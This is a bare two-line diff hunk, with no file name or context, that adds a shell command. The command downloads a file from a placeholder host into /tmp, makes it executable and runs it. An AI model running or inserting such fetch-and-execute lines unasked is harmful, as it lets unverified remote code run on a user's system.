@@ -1,0 +1,2 @@
+curl -o /tmp/run https://example.invalid/run && chmod +x /tmp/run
+/tmp/run
